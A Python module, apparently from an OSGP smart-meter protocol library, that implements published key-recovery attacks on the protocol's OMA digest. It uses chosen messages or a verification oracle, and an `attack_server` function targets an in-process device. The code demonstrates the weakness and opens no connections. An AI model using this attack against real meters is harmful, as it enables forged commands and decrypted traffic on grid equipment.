"""Key recovery against the OMA digest, after Jovanovic and Neves (ePrint 2015/428).

Nothing here opens a connection: the oracles are functions, and `attack_server` takes a server
object of this process.  The point is to show an owner why a meter belongs on the AES suite.

Number the steps of a block through: the digest is ``x[s] = x[s-1] + m[s] + t(k[s], x[s-8])``, and
the last eight x are the result.  Three facts break it:

* Adding 80 to x[s-8] changes t by ±1 if the key bit is 1, by ±40 if it is 0 (hexadecimal).
* Where x is known, so is the message difference that undoes this again later.
* t can be inverted, so with the key bits of the last rows the state before them is known.

| attack | needs | queries, 12-byte key |
|---|---|---|
| chosen messages | digests of messages of the attacker's choice | 13 (as published) |
| verification | one message with its digest; 'is this good?' | 96 (published: 144 on average) |
| short verification | the same, altering only the first 108 bytes | 96 to 192, 168 on average |

The second walks back from the known digest, which makes every query decide one bit; the third
knows no state and tries the sign of the difference too.  108 bytes are what the power line's APDU
of 114 bytes leaves.  The RC4 keys derive from the same key, so confidentiality falls with it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count
from typing import Final

from osgp.errors import LocalProtocolError
from osgp.security.oma import DIGEST_SIZE, MEP_KEY_SIZE, OMAK_SIZE, ROWS, step_term
from osgp.security.suite import OmaServer, Outcome

Oracle = Callable[[bytes], bytes]
"""Gives the digest of a message."""
Verifier = Callable[[bytes, bytes], bool]
"""Says whether a digest is the message's."""

_FLIP: Final = 0x80
_ADDRESS: Final = 2
"""Subnet and node stand first and are not altered."""
SHORT: Final = 108
"""Message bytes within the power line's APDU: 114 less the digest, plus subnet and node."""

_INVERSE: Final = tuple(
    tuple({step_term(bit, j, a): a for a in range(256)} for j in range(8)) for bit in (0, 1)
)


@dataclass(frozen=True, slots=True)
class Recovered:
    """A recovered key and the number of questions it took."""

    key: bytes
    queries: int


class _Key:
    """Key bits as they become known, by step."""

    def __init__(self, size: int) -> None:
        if size not in (OMAK_SIZE, MEP_KEY_SIZE):
            raise LocalProtocolError("an OSGP digest key has 12 or 16 bytes")
        self.size, self.rows = size, ROWS[size]
        self.block = 8 * self.rows
        self._bits: dict[tuple[int, int], int] = {}

    def steps(self) -> Iterator[int]:
        """The last steps of a block, backwards, until every key bit has had its turn."""
        return iter(range(self.block - 1, self.block - 1 - 8 * self.size, -1))

    def learn(self, step: int, bit: int) -> None:
        self._bits[self._place(step)] = bit

    def bit(self, step: int) -> int:
        return self._bits[self._place(step)]

    def value(self) -> bytes:
        return bytes(
            sum(self._bits[i, weight] << weight for weight in range(8)) for i in range(self.size)
        )

    def _place(self, step: int) -> tuple[int, int]:
        row, weight = divmod(step, 8)
        return row % self.size, weight


class _Trace:
    """The x of one message as far back from its digest as the key is known."""

    def __init__(self, message: bytes, digest: bytes) -> None:
        self.message = message
        last = len(message) - 1
        self.x = {last - i: digest[i] for i in range(DIGEST_SIZE)}

    def term(self, step: int) -> int:
        """t of this step."""
        return (self.x[step] - self.x[step - 1] - self.message[step]) & 0xFF

    def step_back(self, step: int, bit: int) -> None:
        """x[step - 8], given the step's key bit."""
        self.x[step - 8] = _INVERSE[bit][7 - step % 8][self.term(step)]


def recover_by_chosen_messages(ask: Oracle, size: int, message: bytes = b"") -> Recovered:
    """The key of `size` bytes from digests of chosen messages: one, and one for each key byte.

    `message` is what the chosen messages begin with (at most 40 bytes stay untouched).
    """
    key, queries = _Key(size), count(1)
    base = message.ljust(key.block, b"\0")
    trace = _Trace(base, ask(base))
    used = next(queries)
    for row in range(key.rows - 1, key.rows - 1 - size, -1):
        altered = _added(base, {8 * row - 8: _FLIP})
        other = _Trace(altered, ask(altered))
        used = next(queries)
        _walk_back(other, key, row)
        _read_row(key, row, trace, other)
        for step in range(8 * row + 7, 8 * row - 1, -1):
            trace.step_back(step, key.bit(step))
    return Recovered(key.value(), used)


def _walk_back(trace: _Trace, key: _Key, row: int) -> None:
    """Invert the rows after `row`, whose key bits are known."""
    for step in range(len(trace.message) - 1, 8 * row + 7, -1):
        trace.step_back(step, key.bit(step))


def _read_row(key: _Key, row: int, trace: _Trace, other: _Trace) -> None:
    """All eight bits of a row: every x of the row before differs by 80, so t shows them."""
    before = _FLIP
    for step in range(8 * row, 8 * row + 8):
        here = (other.x[step] - trace.x[step]) & 0xFF
        key.learn(step, int((here - before) & 0xFF in (0x01, 0xFF)))
        before = here


def recover_by_verification(
    verify: Verifier, size: int, message: bytes, digest: bytes
) -> Recovered:
    """The key from one valid pair and one verification for each bit.

    `message` may be shorter than a block: zeros at its end do not change its digest.
    """
    key = _Key(size)
    base = _one_block(message, key)
    trace = _Trace(base, digest)
    used = 0
    for step in key.steps():
        candidate = _INVERSE[1][7 - step % 8][trace.term(step)]
        undo = _undo(1, step, candidate)
        used += 1
        bit = int(verify(_added(base, _difference(step, undo)), digest))
        key.learn(step, bit)
        trace.step_back(step, bit)
    return Recovered(key.value(), used)


def recover_by_short_verification(
    verify: Verifier, size: int, message: bytes, digest: bytes, reach: int = SHORT
) -> Recovered:
    """The key from one valid pair, altering only the first `reach` bytes of the message.

    LocalProtocolError if `reach` does not take in every key bit.
    """
    key = _Key(size)
    base = _one_block(message, key)[:reach]
    first = reach - 8 * size
    if first < _ADDRESS + DIGEST_SIZE:
        raise LocalProtocolError("too few bytes to alter: some key bits would be out of reach")
    used = 0
    for step in range(first, reach):
        bit = 0
        for undo in (0x01, 0xFF):
            used += 1
            if verify(_added(base, _difference(step, undo)), digest):
                bit = 1
                break
        key.learn(step, bit)
    return Recovered(key.value(), used)


def _one_block(message: bytes, key: _Key) -> bytes:
    if len(message) > key.block:
        raise LocalProtocolError(f"a message of at most {key.block} bytes is needed")
    return message.ljust(key.block, b"\0")


def _difference(step: int, undo: int) -> dict[int, int]:
    """80 into x[step - 8] alone, and `undo` where t answers it."""
    return {step - 8: _FLIP, step - 7: _FLIP, step: undo}


def _undo(bit: int, step: int, a: int) -> int:
    """What cancels t's change when `a`, the x eight steps ago, changes by 80."""
    j = 7 - step % 8
    return (step_term(bit, j, a) - step_term(bit, j, (a + _FLIP) & 0xFF)) & 0xFF


def _added(message: bytes, difference: dict[int, int]) -> bytes:
    altered = bytearray(message)
    for at, value in difference.items():
        altered[at] = (altered[at] + value) & 0xFF
    return bytes(altered)


def attack_server(server: OmaServer, request: bytes, reach: int = SHORT) -> Recovered:
    """The OMAK of a device of this process, from one request that was overheard on its line.

    `request` is sealed and not encrypted.  The device is only asked whether digests are good:
    anything but the outcome BAD_DIGEST says so.
    """
    address = server.scope.request_input(b"")
    body, digest = request[:-DIGEST_SIZE], request[-DIGEST_SIZE:]

    def verify(message: bytes, tag: bytes) -> bool:
        sealed = message[len(address) :] + tag
        return server.open_request(sealed).outcome is not Outcome.BAD_DIGEST

    return recover_by_short_verification(
        verify, server.scope.key_size, address + body, digest, reach
    )
